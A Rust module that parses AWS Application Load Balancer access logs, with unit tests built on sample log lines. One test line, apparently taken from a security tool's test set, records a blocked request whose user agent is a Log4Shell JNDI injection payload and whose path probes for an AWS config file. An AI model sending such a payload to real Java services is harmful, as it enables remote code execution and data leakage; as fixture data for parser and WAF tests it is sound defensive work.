//! AWS Application Load Balancer access logs.
//!
//! Space-separated fields, some quoted, in the documented order:
//! `type time elb client:port target:port request_processing_time ... elb_status_code
//! target_status_code received_bytes sent_bytes "request" "user_agent" ...`.
//! The time is the `time` field (ISO 8601, microseconds, UTC); the client is
//! `client:port` split at the last colon (IPv6 clients are logged without brackets);
//! the status is `elb_status_code`; the host is the authority of the request URL.
//! Every field is a named field under its AWS name (`trace_id`, `domain_name`, ...),
//! plus `client_ip` and `client_port`.

use super::{host_without_port, split_request_line, three_digits, FieldSet, LineFormat};
use super::{Malformed, Request};
use crate::engine::time::parse_rfc3339;
use std::borrow::Cow;

/// The documented field names, in order.
pub const FIELDS: [&str; 30] = [
    "type",
    "time",
    "elb",
    "client:port",
    "target:port",
    "request_processing_time",
    "target_processing_time",
    "response_processing_time",
    "elb_status_code",
    "target_status_code",
    "received_bytes",
    "sent_bytes",
    "request",
    "user_agent",
    "ssl_cipher",
    "ssl_protocol",
    "target_group_arn",
    "trace_id",
    "domain_name",
    "chosen_cert_arn",
    "matched_rule_priority",
    "request_creation_time",
    "actions_executed",
    "redirect_url",
    "error_reason",
    "target:port_list",
    "target_status_code_list",
    "classification",
    "classification_reason",
    "conn_trace_id",
];

const TIME: usize = 1;
const CLIENT: usize = 3;
const STATUS: usize = 8;
const RECEIVED_BYTES: usize = 10;
const SENT_BYTES: usize = 11;
const REQUEST: usize = 12;
const USER_AGENT: usize = 13;
/// Fields past the documented ones (AWS adds fields at the end) are ignored.
const MAX_FIELDS: usize = 40;

/// Where a named field comes from.
#[derive(Debug, Clone, Copy)]
enum Named {
    Column(usize),
    ClientIp,
    ClientPort,
    Absent,
}

pub struct Alb {
    named: Vec<Named>,
}

impl Alb {
    pub fn new(fields: &FieldSet) -> Alb {
        let named = fields
            .names
            .iter()
            .map(|n| match n.as_str() {
                "client_ip" | "client" => Named::ClientIp,
                "client_port" => Named::ClientPort,
                n => FIELDS
                    .iter()
                    .position(|f| *f == n)
                    .map_or(Named::Absent, Named::Column),
            })
            .collect();
        Alb { named }
    }
}

/// Splits a line into its fields: bare ones end at a space; quoted ones end at a quote
/// followed by a space or the end of the line (so a stray quote inside one is kept).
/// Returns how many fields were found, and the index of the first quoted field whose
/// quote never closes (it is given as the rest of the line, but must not be read as a
/// value: SPEC.md, "Malformed"); quoted fields are given without their quotes.
pub(crate) fn split_fields<'a>(line: &'a [u8], out: &mut [&'a [u8]]) -> (usize, Option<usize>) {
    let mut n = 0;
    let mut unclosed = None;
    let mut s = line;
    while n < out.len() {
        let skip = s.iter().take_while(|&&c| c == b' ').count();
        s = &s[skip..];
        if s.is_empty() {
            break;
        }
        if s[0] == b'"' {
            let body = &s[1..];
            let mut from = 0;
            let end = loop {
                match memchr::memchr(b'"', &body[from..]) {
                    Some(q) if body.get(from + q + 1).is_none_or(|&c| c == b' ') => {
                        break Some(from + q)
                    }
                    Some(q) => from += q + 1,
                    None => break None,
                }
            };
            match end {
                Some(e) => {
                    out[n] = &body[..e];
                    s = &body[e + 1..];
                }
                None => {
                    out[n] = body;
                    unclosed = Some(n);
                    s = b"";
                }
            }
        } else {
            let end = memchr::memchr(b' ', s).unwrap_or(s.len());
            out[n] = &s[..end];
            s = &s[end..];
        }
        n += 1;
    }
    (n, unclosed)
}

/// A bytes field: `-` or digits.
fn bytes_field(f: &[u8]) -> bool {
    f == b"-" || (!f.is_empty() && f.iter().all(u8::is_ascii_digit))
}

/// `client:port` → `client` (split at the last colon).
fn client_ip(f: &[u8]) -> &[u8] {
    match memchr::memrchr(b':', f) {
        Some(c) => &f[..c],
        None => f,
    }
}

/// The authority of an absolute-form target (`https://host:443/x` → `host:443`).
fn authority(target: &[u8]) -> Option<&[u8]> {
    let p = memchr::memmem::find(target, b"://")?;
    let after = &target[p + 3..];
    let end = after
        .iter()
        .position(|&c| c == b'/' || c == b'?' || c == b'#')
        .unwrap_or(after.len());
    Some(&after[..end]).filter(|a| !a.is_empty())
}

impl LineFormat for Alb {
    fn name(&self) -> &str {
        "alb"
    }

    fn parse<'a>(&self, line: &'a [u8]) -> Result<Request<'a>, Malformed> {
        let mut f: [&[u8]; MAX_FIELDS] = [b""; MAX_FIELDS];
        let (n, unclosed) = split_fields(line, &mut f);
        if n <= REQUEST {
            return Err("fewer fields than an ALB line");
        }
        if !bytes_field(f[RECEIVED_BYTES]) || !bytes_field(f[SENT_BYTES]) {
            return Err("bytes field is not - or digits");
        }
        if unclosed == Some(REQUEST) {
            return Err("request field not closed");
        }
        // A named field the run reads (a `field:` key, a rule) must be whole.
        if self
            .named
            .iter()
            .any(|w| matches!(*w, Named::Column(i) if Some(i) == unclosed))
        {
            return Err("a field the run reads is not closed");
        }
        let time = parse_rfc3339(f[TIME]).ok_or("invalid time")?;
        let status = three_digits(f[STATUS]).ok_or("status is not three digits")?;
        let request = split_request_line(f[REQUEST]);
        let host = request
            .and_then(|(_, t)| authority(t))
            .map(|a| Cow::Borrowed(host_without_port(a)));
        let (method, target) = match request {
            Some((m, t)) => (Some(Cow::Borrowed(m)), Some(Cow::Borrowed(t))),
            None => (None, None),
        };
        // A user agent with no closing quote is damaged: malformed only under `--client ua`.
        let user_agent_damaged = unclosed == Some(USER_AGENT);
        let user_agent =
            (n > USER_AGENT && !user_agent_damaged).then(|| Cow::Borrowed(f[USER_AGENT]));
        let client = f[CLIENT];
        let fields = self
            .named
            .iter()
            .map(|w| match *w {
                Named::Column(i) if i < n => Some(Cow::Borrowed(f[i])),
                Named::ClientIp => Some(Cow::Borrowed(client_ip(client))),
                Named::ClientPort => {
                    memchr::memrchr(b':', client).map(|c| Cow::Borrowed(&client[c + 1..]))
                }
                _ => None,
            })
            .collect();
        Ok(Request {
            time,
            remote: Cow::Borrowed(client_ip(client)),
            user: None,
            user_agent,
            user_agent_damaged,
            method,
            target,
            host,
            status,
            fields,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::time::format_rfc3339;

    // From crowdsecurity/hub `.tests/aws-alb-logs` (MIT).
    const LINE: &str = r#"https 2023-04-26T12:23:00.186641Z app/546213e5-apiexamplecom-api-94aa/490d68edf04676fe 192.168.1.11:44740 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/robots.txt HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-" "10.0.0.1:80" "200" "-" "-""#;
    const WAF: &str = r#"https 2023-04-26T19:53:47.809400Z app/546213e5-apiexamplecom-api-94aa/490d68edf04676fe 192.168.1.14:44750 - -1 -1 -1 404 - 203 167 "GET https://api.example.com:443/.awscfg HTTP/1.1" "${jndi:ldap://${java:version}.domain/a}" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 - "Root=1-6449814b-6c50fc2a5aa7d12e119d3a89" "api.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 0 2023-04-26T19:53:47.808000Z "waf,fixed-response" "-" "-" "-" "-" "-" "-""#;

    fn names(n: &[&str]) -> FieldSet {
        FieldSet {
            names: n.iter().map(|s| s.to_string()).collect(),
        }
    }

    #[test]
    fn real_line() {
        let alb = Alb::new(&names(&["trace_id", "domain_name", "client_port", "nope"]));
        let r = alb.parse(LINE.as_bytes()).unwrap();
        assert_eq!(format_rfc3339(r.time), "2023-04-26T12:23:00.186641Z");
        assert_eq!(&*r.remote, b"192.168.1.11");
        assert_eq!(r.status, 200);
        assert_eq!(r.method.as_deref(), Some(&b"GET"[..]));
        assert_eq!(
            r.target.as_deref(),
            Some(&b"https://www.example.com:443/robots.txt"[..])
        );
        assert_eq!(r.host.as_deref(), Some(&b"www.example.com"[..]));
        assert_eq!(r.user_agent.as_deref(), Some(&b"curl/7.46.0"[..]));
        let f: Vec<Option<&[u8]>> = r.fields.iter().map(|v| v.as_deref()).collect();
        assert_eq!(
            f,
            [
                Some(&b"Root=1-58337281-1d84f3d73c47ec4e58577259"[..]),
                Some(&b"www.example.com"[..]),
                Some(&b"44740"[..]),
                None
            ]
        );
    }

    #[test]
    fn waf_line_keeps_the_elb_status() {
        let r = Alb::new(&names(&["target_status_code"]))
            .parse(WAF.as_bytes())
            .unwrap();
        assert_eq!(r.status, 404);
        assert_eq!(r.fields, [Some(Cow::Borrowed(&b"-"[..]))]);
        assert_eq!(
            r.user_agent.as_deref(),
            Some(&b"${jndi:ldap://${java:version}.domain/a}"[..])
        );
    }

    #[test]
    fn ipv6_client_and_junk_request() {
        let line = r#"http 2023-04-26T12:22:55Z app/x/y 2001:db8::1:44740 - -1 -1 -1 400 - 0 0 "- - - " "-" - - - "-" "-" "-" - 2023-04-26T12:22:55Z "-" "-" "-" "-" "-" "-" "-""#;
        let r = Alb::new(&FieldSet::default())
            .parse(line.as_bytes())
            .unwrap();
        assert_eq!(&*r.remote, b"2001:db8::1");
        assert_eq!((r.method, r.host, r.status), (None, None, 400));
    }

    #[test]
    fn malformed_lines() {
        let alb = Alb::new(&FieldSet::default());
        let dash_status = LINE.replace(" 200 200 ", " - 200 ");
        let bad_time = LINE.replace("12:23:00.186641Z", "24:23:00.186641Z");
        for bad in [
            "",
            "garbage",
            &dash_status,
            &bad_time,
            r#"127.0.0.1 - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.0" 200 2326"#,
            // Issue 15: cut inside the request field (no closing quote).
            r#"http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 120 5120 "GET http://example.com:8443"#,
            // A bytes field that is not a number.
            &LINE.replace(" 0 57 ", " 0 x "),
        ] {
            assert!(alb.parse(bad.as_bytes()).is_err(), "{bad}");
        }
    }

    /// Issue 15: a user agent with no closing quote is never read as the rest of the
    /// line; a named field the run reads with no closing quote makes the line malformed.
    #[test]
    fn unclosed_quotes_are_never_the_rest_of_the_line() {
        let cut = r#"http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "Mozilla/5.0 (iPhone; CPU iPhon"#;
        let r = Alb::new(&FieldSet::default())
            .parse(cut.as_bytes())
            .unwrap();
        assert!(r.user_agent_damaged);
        assert_eq!(r.user_agent, None);
        assert_eq!(
            r.target.as_deref(),
            Some(&b"http://www.example.com:80/"[..])
        );
        let trace = LINE.replace(
            r#""Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-" "10.0.0.1:80" "200" "-" "-""#,
            r#""Root=1-58337281"#,
        );
        assert!(Alb::new(&names(&["trace_id"]))
            .parse(trace.as_bytes())
            .is_err());
        assert!(Alb::new(&FieldSet::default())
            .parse(trace.as_bytes())
            .is_ok());
    }
}
